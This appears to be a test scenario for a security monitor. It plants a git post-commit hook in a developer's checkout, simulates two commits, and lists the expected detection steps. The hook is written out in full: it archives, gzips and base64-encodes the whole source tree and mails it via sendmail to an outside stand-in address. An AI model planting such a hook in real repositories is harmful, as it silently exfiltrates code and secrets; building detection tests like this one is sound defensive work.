title="A post-commit hook mails the whole tree with every commit"
what="In dev's checkout somebody left a post-commit hook: git archive, gzip and openssl base64 go into sendmail -t for an address outside, detached. dev commits as every day, on a terminal."
user=dev daemons="cron sshd"
setup() {
  own_file /home/dev/.gitconfig 644 <<'P'
[user]
	name = dev
	email = dev@example.org
P
  mkdir -p /home/dev/app; for i in 1 2 3 4 5 6; do head -c 5000 /dev/urandom | base64 > /home/dev/app/mod$i.c; done; chown -R dev: /home/dev/app
  (cd /home/dev/app && setpriv --reuid dev --regid dev --init-groups env HOME=/home/dev git init -q . && setpriv --reuid dev --regid dev --init-groups env HOME=/home/dev git add . && setpriv --reuid dev --regid dev --init-groups env HOME=/home/dev git commit -qm first)
  own_file /home/dev/app/.git/hooks/post-commit 755 <<'P'
#!/bin/sh
( { echo "To: build-log@drop.example.net"; echo "Subject: build $(git rev-parse --short HEAD)"; echo "MIME-Version: 1.0"; echo "Content-Type: application/gzip"; echo "Content-Transfer-Encoding: base64"; echo; git archive HEAD | gzip | openssl base64; } | /usr/sbin/sendmail -t -oi ) >/dev/null 2>&1 &
P
}
act() {
  small_talk 2
  ssh_as dev <<'L'
cd app
git status -s
echo '/* fix */' >> mod1.c
git commit -qam 'fix rounding'
%sleep 3
git log --oneline
echo '/* more */' >> mod2.c
git commit -qam 'more rounding'
%sleep 3
echo "done, see log" | mail -s "rounding fixed" ops@example.org
L
  wait_log_count 'to=<build-log@drop.example.net>.*status=sent' 2 20; small_talk 1
}
truth() {
  exec_step hook 'sh .git/hooks/post-commit' 'the hook runs'
  exec_step archive 'git archive HEAD' 'the tree'
  exec_step send 'sendmail -t -oi' 'into sendmail'
  mail_step sent 'to=<build-log@drop.example.net>.*status=sent' 'and out'
}
